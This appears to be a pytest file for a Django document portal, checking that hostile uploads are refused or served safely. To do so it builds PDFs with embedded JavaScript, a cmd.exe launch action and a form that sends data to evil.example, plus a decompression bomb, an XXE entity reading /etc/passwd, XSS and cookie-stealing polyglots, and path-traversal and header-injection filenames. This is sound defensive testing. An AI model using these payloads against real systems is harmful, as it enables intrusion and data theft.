"""Files that are made to harm: what they do to whoever opens them, to the server that reads them, and to a browser."""

from __future__ import annotations

import zlib
from io import BytesIO
from zipfile import ZipFile

import pytest
from django.test import Client
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import FreeText
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from orken.cases.models import Case
from orken.documents.models import Document
from orken.documents.services import store_upload
from orken.kernel.errors import RuleViolation
from orken.parties.models import User
from tests.factories.cases import RESIDENCY, founder_with_organisation, load_rules_and_procedures
from tests.factories.documents import pdf_file, picture, upload
from tests.factories.parties import PersonFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def founder() -> User:
    return PersonFactory()


def refused(founder: User, content: bytes, name: str = "anyqtama.pdf") -> RuleViolation:
    with pytest.raises(RuleViolation) as caught:
        store_upload(upload(content, name), owner=None, kind="evidence", actor=founder)
    assert not Document.objects.exists()
    return caught.value


def kept(founder: User, content: bytes, name: str = "anyqtama.pdf") -> Document:
    return store_upload(upload(content, name), owner=None, kind="evidence", actor=founder)


def written(writer: PdfWriter) -> bytes:
    output = BytesIO()
    writer.write(output)
    return output.getvalue()


def a_writer() -> PdfWriter:
    return PdfWriter(clone_from=PdfReader(BytesIO(pdf_file())))


def action(kind: str, **parts: str) -> DictionaryObject:
    made = DictionaryObject({NameObject("/S"): NameObject(kind)})
    made.update({NameObject(f"/{name}"): TextStringObject(text) for name, text in parts.items()})
    return made


def with_script() -> PdfWriter:
    writer = a_writer()
    named = ArrayObject([TextStringObject("a"), writer._add_object(action("/JavaScript", JS="app.alert(1)"))])
    tree = DictionaryObject({NameObject("/Names"): named})
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})
    return writer


def with_attachment() -> PdfWriter:
    writer = a_writer()
    writer.add_attachment("invoice.exe", b"MZ")
    return writer


def that_launches() -> PdfWriter:
    writer = a_writer()
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(action("/Launch", F="cmd.exe"))
    return writer


def that_sends_when_a_page_opens() -> PdfWriter:
    writer = a_writer()
    opening = DictionaryObject({NameObject("/O"): action("/SubmitForm", F="http://evil.example")})
    writer.pages[0][NameObject("/AA")] = opening
    return writer


def that_hides_a_script_behind_a_link() -> PdfWriter:
    writer = a_writer()
    link = FreeText(text="жоба", rect=(0, 0, 50, 50))
    first = action("/GoTo")
    first[NameObject("/Next")] = ArrayObject([writer._add_object(action("/JavaScript", JS="app.launchURL('x')"))])
    link[NameObject("/A")] = first
    writer.add_annotation(0, link)
    return writer


def with_an_attachment_on_a_page() -> PdfWriter:
    writer = a_writer()
    note = FreeText(text="", rect=(0, 0, 5, 5))
    note[NameObject("/Subtype")] = NameObject("/FileAttachment")
    writer.add_annotation(0, note)
    return writer


@pytest.mark.parametrize(
    ("made", "words"),
    [
        (with_script, "a program"),
        (that_launches, "a program"),
        (that_hides_a_script_behind_a_link, "a program"),
        (with_attachment, "other files"),
        (with_an_attachment_on_a_page, "other files"),
        (that_sends_when_a_page_opens, "a form that sends data"),
    ],
)
def test_a_pdf_that_acts_is_refused_with_the_remedy(founder: User, made, words: str) -> None:
    refusal = refused(founder, written(made()))
    assert refusal.code == "file_active"
    assert f"carries {words} inside" in str(refusal)
    assert "Print it into a new PDF" in str(refusal)


def test_a_script_is_found_under_a_disguised_name(founder: User) -> None:
    disguised = written(with_script()).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53")
    assert refused(founder, disguised).code == "file_active"


def test_links_bookmarks_and_fields_are_no_action(founder: User) -> None:
    writer = a_writer()
    writer.add_outline_item(title="Бірінші бөлім", page_number=0)
    writer.root_object[NameObject("/OpenAction")] = action("/GoTo")
    link = FreeText(text="заң", rect=(0, 0, 50, 50))
    link[NameObject("/A")] = action("/URI", URI="https://adilet.zan.kz")
    writer.add_annotation(0, link)
    assert kept(founder, written(writer)).content_type == "application/pdf"


def test_a_ring_of_parts_is_walked_once(founder: User) -> None:
    writer = a_writer()
    ring = writer._add_object(DictionaryObject())
    ring.get_object()[NameObject("/Next")] = ring
    writer.root_object[NameObject("/Ring")] = ring
    assert kept(founder, written(writer)).size


def test_a_pdf_that_would_fill_the_memory_is_refused(founder: User) -> None:
    """Its list of objects is a stream of 300 MB of zeros, packed into 300 kB."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(1024 * 1024)) for _megabyte in range(300)) + packer.flush()
    stream = b"<< /Type /XRef /Size 3 /W [1 2 1] /Root 1 0 R /Filter /FlateDecode /Length %d >>" % len(packed)
    bomb = b"%PDF-1.7\n1 0 obj\n" + stream + b"\nstream\n" + packed + b"\nendstream\nendobj\nstartxref\n9\n%%EOF"
    assert refused(founder, bomb).code == "file_broken"


def test_a_picture_of_too_many_points_is_refused(founder: User) -> None:
    """12,000 × 12,000 points of one colour are a small file and half a gigabyte of memory."""
    output = BytesIO()
    Image.new("1", (12_000, 12_000)).save(output, "PNG")
    assert len(output.getvalue()) < 100_000
    assert refused(founder, output.getvalue(), "scan.png").code == "file_broken"


@pytest.mark.parametrize(
    "content",
    [
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
        b"PK\x03\x04" + b"\x00" * 60,
        b"<!doctype html><script>alert(1)</script>" + pdf_file(),
        b"GIF89a" + pdf_file(),
        b"\xef\xbb\xbf" + pdf_file(),
    ],
    ids=["SVG", "XML", "office", "page before PDF", "GIF before PDF", "mark before PDF"],
)
def test_what_only_claims_to_be_a_pdf_is_refused(founder: User, content: bytes) -> None:
    assert refused(founder, content).code == "file_type"


def polyglots() -> dict[str, bytes]:
    """Files that are two things at once; the portal keeps them as the first and no browser may see the second."""
    archive = BytesIO(pdf_file())
    archive.seek(0, 2)
    with ZipFile(archive, "a") as file:
        file.writestr("a.html", "<script>alert(1)</script>")
    page = b"<html><script>alert(document.cookie)</script></html>"
    return {"PDF and page": pdf_file() + page, "PDF and archive": archive.getvalue(), "PNG and page": picture() + page}


@pytest.mark.parametrize("name", polyglots())
def test_a_file_that_is_two_things_is_served_as_the_harmless_one(client: Client, name: str) -> None:
    case, founder = a_draft()
    client.force_login(founder)
    content = polyglots()[name]
    document = attached(client, case, content, "a.html")
    answer = client.get(f"/kk/cases/{case.reference}/documents/{document.reference}/")
    assert answer.headers["Content-Type"] == ("image/png" if name.startswith("PNG") else "application/pdf")
    assert answer.headers["Content-Disposition"].startswith("attachment;")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert "no-store" in answer.headers["Cache-Control"]
    assert answer.getvalue() == content


@pytest.mark.parametrize(
    ("sent", "shown"),
    [
        (b"../../../../etc/passwd", "passwd.pdf"),
        (b"..\\..\\web.config", "web.config.pdf"),
        (b"a%00b.pdf", "a%00b.pdf"),
        ("шарт\u202efdp.exe".encode(), "шартfdp.pdf"),
        (b"a.pdf%0d%0aSet-Cookie: x=1", None),
        (b"a;filename=evil.html", None),
        ("ә".encode() * 300, "ә" * 120 + ".pdf"),
    ],
)
def test_a_name_never_leaves_its_place(client: Client, sent: bytes, shown: str | None) -> None:
    """The name as it stands in the request, which Django's own client would already have cleaned."""
    case, founder = a_draft()
    client.force_login(founder)
    document = attached(client, case, pdf_file(), sent)
    assert shown is None or document.filename == shown
    assert document.file.name == f"{document.reference[:2]}/{document.reference}"
    disposition = client.get(f"/kk/cases/{case.reference}/documents/{document.reference}/")
    assert disposition.getvalue()
    header = disposition.headers["Content-Disposition"]
    assert header.startswith("attachment; filename")
    assert not set(header) & set("\r\n\x00\u202e")
    assert header.count("filename") == 1 or header.count('"') == 2
    assert "Set-Cookie" not in disposition.headers


def test_names_with_formulas_markup_and_code_stay_text_on_pages_and_papers(client: Client) -> None:
    case, founder = a_draft()
    client.force_login(founder)
    attached(client, case, pdf_file(), b"<img src=x onerror=alert(1)>#panic().pdf")
    page = client.get(f"/kk/cases/{case.reference}/form/tax_standing/").content.decode()
    assert "<img src=x" not in page


def a_draft() -> tuple[Case, User]:
    from orken.cases.services.drafting import open_case

    load_rules_and_procedures()
    founder, organisation = founder_with_organisation()
    return open_case(RESIDENCY, applicant=organisation, actor=founder), founder


def attached(client: Client, case: Case, content: bytes, name: bytes | str) -> Document:
    """Send the file byte by byte as a browser would, under a name that may be anything."""
    raw = name.encode() if isinstance(name, str) else name
    head = (
        b'Content-Disposition: form-data; name="document"; filename="' + raw + b'"\r\nContent-Type: text/html\r\n\r\n'
    )
    revision = b'--B\r\nContent-Disposition: form-data; name="revision"\r\n\r\n0\r\n'
    body = revision + b"--B\r\n" + head + content + b"\r\n--B--\r\n"
    address = f"/en/cases/{case.reference}/form/tax_standing/"
    answer = client.post(address, body, content_type="multipart/form-data; boundary=B")
    assert answer.status_code in (302, 422), answer.status_code
    return Document.objects.get(evidence__case=case)


def test_files_cannot_be_asked_for_by_address(client: Client, founder: User) -> None:
    document = kept(founder, pdf_file())
    client.force_login(founder)
    for place in ("/", "/media/", "/documents/", "/static/../documents/", "/static/%2e%2e/documents/"):
        assert client.get(f"{place}{document.file.name}").status_code == 404
